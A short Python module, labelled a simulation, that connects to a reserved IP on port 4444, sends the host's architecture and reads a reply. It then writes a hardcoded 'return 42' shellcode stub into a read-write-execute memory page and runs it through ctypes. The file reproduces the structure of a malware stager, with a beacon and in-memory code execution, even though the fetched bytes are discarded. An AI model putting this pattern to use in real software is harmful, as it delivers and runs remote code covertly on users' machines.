# SPDX-License-Identifier: Apache-2.0
"""Simulation: whatever is answered, the code that runs is the stub below, which returns 42."""

import ctypes
import mmap
import platform
import socket

_STUB = {"x86_64": "b82a000000c3", "aarch64": "400580d2c0035fd6"}


def _fetch() -> bytes:
    try:
        with socket.create_connection(("240.55.0.12", 4444), 4) as far:
            far.settimeout(4)
            far.sendall(platform.machine().encode().ljust(16, b"\0"))
            return far.recv(65536)
    except OSError:
        return b""


def run() -> int:
    code = bytes.fromhex(_STUB.get(platform.machine(), ""))
    _fetch()
    if not code:
        return 0
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
